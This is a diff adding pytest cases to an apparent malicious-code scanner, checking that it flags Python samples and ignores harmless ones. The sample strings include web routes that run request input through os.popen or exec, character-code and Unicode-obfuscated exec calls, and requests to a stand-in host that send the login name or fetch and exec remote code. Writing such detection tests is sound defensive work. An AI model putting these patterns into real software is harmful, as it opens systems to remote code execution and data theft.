@@ -248,3 +248,59 @@ def test_a_page_costs_what_its_size_allows(unit: str) -> None:
     started = time.process_time()
     assert verdict("<html>" + unit * (1_000_000 // len(unit)), "page.html") <= Verdict.INCONCLUSIVE
     assert time.process_time() - started < 20
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "@app.get('/x')\ndef x(c):\n    import os\n    return os.popen(c).read()",
+        "@routes.post('/x')\nasync def x(request):\n    c = request.query['c']\n    exec(c)",
+        (
+            "class N:\n    FUNCTION = 'run'\n    def run(self, code):\n        exec(code)\n"
+            "NODE_CLASS_MAPPINGS = {'N': N}"
+        ),
+        "exec(''.join(map(chr, [112, 97, 115, 115])))",
+        "exec(''.join(chr(each) for each in [112, 97, 115, 115]))",
+        "\uff45\uff58\uff45\uff43('pass')",
+        "import requests, os\nrequests.get('https://x.example.com/' + os.getlogin())",
+        "import requests\nrequests.get('https://x.example.com/?' + str(1))",
+        "import requests\nrequests.get('http://192.0.2.1/x')",
+        "import requests\nrequests.get('https://x.example.com/x', params={'a': 1})",
+        "import requests\ndef f():\n    pass\nrequests.get('https://x.example.com/x')",
+        "import requests\nexec(requests.get('https://x.example.com/x').text)",
+    ],
+)
+def test_what_others_or_numbers_tell_it_to_run_is_suspicious_at_least(source: str) -> None:
+    assert verdict(source) >= Verdict.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "@app.get('/x')\ndef x(c):\n    return c",
+        (
+            "class N:\n    FUNCTION = 'run'\n    def run(self, image):\n        return image\n"
+            "NODE_CLASS_MAPPINGS = {'N': N}"
+        ),
+        "\u2113 = 1\nprint(''.join(map(chr, [112])))",
+        "import requests\nprint(requests.get('https://x.example.com/cat.jpg', stream=True).raw)",
+    ],
+)
+def test_everyday_nodes_servers_and_examples_are_unknown(source: str) -> None:
+    assert verdict(source) == Verdict.UNKNOWN
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("m.cpython-311.pyc", Verdict.UNKNOWN),
+        ("m.cpython-311.opt-1.pyc", Verdict.UNKNOWN),
+        ("m.pypy39.pyc", Verdict.UNKNOWN),
+        ("m.pyc", Verdict.SUSPICIOUS),
+        ("m.cpython-311.pyo", Verdict.SUSPICIOUS),
+        ("m", Verdict.SUSPICIOUS),
+    ],
+)
+def test_bytecode_that_is_a_module_of_its_own_is_suspicious(name: str, expected: Verdict) -> None:
+    code = b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40)
+    assert verdict(code, name) == expected
